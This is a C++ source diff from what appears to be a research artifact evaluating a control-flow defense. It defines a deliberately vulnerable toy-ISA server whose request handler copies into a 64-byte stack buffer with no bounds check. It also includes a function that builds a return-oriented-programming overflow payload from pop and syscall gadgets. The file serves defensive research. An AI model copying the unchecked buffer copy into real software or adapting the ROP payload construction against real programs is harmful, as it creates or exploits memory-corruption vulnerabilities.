@@ -1,0 +1,100 @@
+#include "workloads/wl_server.hpp"
+
+#include "isa/assembler.hpp"
+
+namespace vcfr::workloads {
+
+// The vulnerable service (paper §V-A). `handle_request` copies
+// request[1..n] into a 64-byte stack buffer where n = request[0] — no
+// bounds check — then checksums what it copied. The statically linked
+// runtime provides the gadget material (an argument-restore helper and a
+// write() syscall stub).
+const char* server_source() {
+  return R"(
+  .name vulnerable-server
+  .entry main
+  .data 0x10000000
+  request:
+    .space 128
+  .text
+  .func main
+  main:
+    call handle_request
+    mov r0, 1
+    out r0             ; "request served" status
+    halt
+  .func handle_request
+  handle_request:
+    sub sp, 64         ; char buf[64]
+    mov r1, @request
+    ldb r2, [r1]       ; n = request[0]  (attacker controlled!)
+    mov r3, 0
+  copy:
+    cmp r3, r2
+    jae copied
+    add r1, 1
+    ldb r4, [r1]
+    mov r5, sp
+    add r5, r3
+    stb r4, [r5]       ; buf[i] = request[1+i]  -- no bounds check
+    add r3, 1
+    jmp copy
+  copied:
+    mov r3, 0
+    mov r6, 0
+  sum:
+    cmp r3, r2
+    jae done
+    mov r5, sp
+    add r5, r3
+    ldb r4, [r5]
+    add r6, r4         ; checksum the handled bytes
+    add r3, 1
+    jmp sum
+  done:
+    add sp, 64
+    ret
+  .func rt_restore     ; varargs/argument restore helper: pop r0; ret
+  rt_restore:
+    pop r0
+    ret
+  .func rt_write       ; write() syscall stub: sys 1; ret
+  rt_write:
+    sys 1
+    ret
+)";
+}
+
+binary::Image make_server(int scale) {
+  (void)scale;  // same program at every scale; work comes from the request
+  return isa::assemble(server_source());
+}
+
+std::vector<uint8_t> frame_request(const std::vector<uint8_t>& body) {
+  size_t n = body.size();
+  if (n > 255) n = 255;
+  if (n > kServerRequestCapacity - 1) n = kServerRequestCapacity - 1;
+  std::vector<uint8_t> framed;
+  framed.reserve(n + 1);
+  framed.push_back(static_cast<uint8_t>(n));
+  framed.insert(framed.end(), body.begin(), body.begin() + n);
+  return framed;
+}
+
+std::vector<uint8_t> build_exploit_request(uint32_t pop_gadget,
+                                           uint32_t sys_gadget) {
+  std::vector<uint8_t> body;
+  const auto push32 = [&](uint32_t v) {
+    body.push_back(static_cast<uint8_t>(v));
+    body.push_back(static_cast<uint8_t>(v >> 8));
+    body.push_back(static_cast<uint8_t>(v >> 16));
+    body.push_back(static_cast<uint8_t>(v >> 24));
+  };
+  for (uint32_t i = 0; i < kServerBufferBytes; ++i) body.push_back('A');
+  push32(pop_gadget);     // overwrites the saved return address
+  push32(kServerMarker);  // popped into r0 by the first gadget
+  push32(sys_gadget);     // sys 1 emits r0: the "shell"
+  return frame_request(body);
+}
+
+}  // namespace vcfr::workloads
